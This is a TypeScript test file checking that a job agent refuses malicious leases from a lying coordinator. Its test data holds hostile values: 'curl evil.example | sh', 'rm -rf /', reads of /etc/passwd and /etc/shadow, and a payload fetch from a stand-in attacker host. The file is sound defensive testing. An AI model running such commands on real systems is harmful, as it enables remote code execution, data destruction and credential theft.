import { expect, test } from 'vitest'
import type { Lease } from '../../protocol/leases.ts'
import { poll } from '../runtime/testing/poll.ts'
import { readResult, runAgent } from '../runtime/testing/test-agent.ts'
import { leaseOf, TestCoordinator } from '../runtime/testing/test-coordinator.ts'

const honest = { fileId: 1, libraryId: 1, root: '/r', path: 'a.jpg', sizeBytes: 1, mtimeUs: 1 }

const lies: [string, Partial<Lease>][] = [
  ['a path that climbs out', { input: { ...honest, path: '../../etc/passwd' } }],
  ['an absolute path', { input: { ...honest, path: '/etc/shadow' } }],
  ['a command', { input: { ...honest, cmd: 'curl evil.example | sh' } }],
  ['an address elsewhere', { input: { ...honest, url: 'http://evil.example/payload' } }],
  ['a kind that nobody knows', { kind: 'shell.run', input: { script: 'id' } }],
  ['work that this machine does not offer', { capability: 'detect' }],
  ['a write beside originals', { kind: 'sidecar.write', capability: 'sidecar', input: {} }],
  ['something that is no input', { input: 'rm -rf /' }],
]

test('a coordinator that lies is refused by the agent itself, which says so here and there', async () => {
  await using coordinator = await TestCoordinator.start()
  // Whatever was asked for, the lies are what it hands out.
  const handedOut = lies.map(([, change], at) => leaseOf(at + 1, { input: { ...honest }, ...change }))
  coordinator.script['lease.request'] = () => ({ leases: handedOut.splice(0, 2) })
  const ran: unknown[] = []
  await using agent = runAgent(coordinator, {
    handlers: {
      'file.ingest': async (input) => {
        ran.push(input)
        return readResult
      },
    },
  })
  await poll(() => coordinator.received('job.fail').length).toBe(lies.length)
  const codes = coordinator.received('job.fail').map(({ jobId, error }) => [lies[jobId - 1]?.[0], error.code])
  expect(Object.fromEntries(codes)).toEqual({
    ...Object.fromEntries(lies.map(([lie]) => [lie, 'refused_by_agent'])),
    'something that is no input': 'bad_request',
  })
  expect(ran).toEqual([])
  expect(coordinator.completed()).toEqual([])
  const said = agent.log.filter(({ msg }) => msg === 'refused a job').map(({ jobId }) => jobId)
  expect(said.sort()).toEqual([1, 2, 3, 4, 5, 6, 7])
})

test('an agent that is told of another host on its way takes nothing from there', async () => {
  await using coordinator = await TestCoordinator.start()
  coordinator.queue.push(leaseOf(1, { input: { ...honest, source: `${coordinator.url}.evil.example/x` } }))
  await using _agent = runAgent(coordinator, { handlers: { 'file.ingest': async () => readResult } })
  await poll(() => coordinator.received('job.fail')).toMatchObject([{ error: { code: 'refused_by_agent' } }])
})
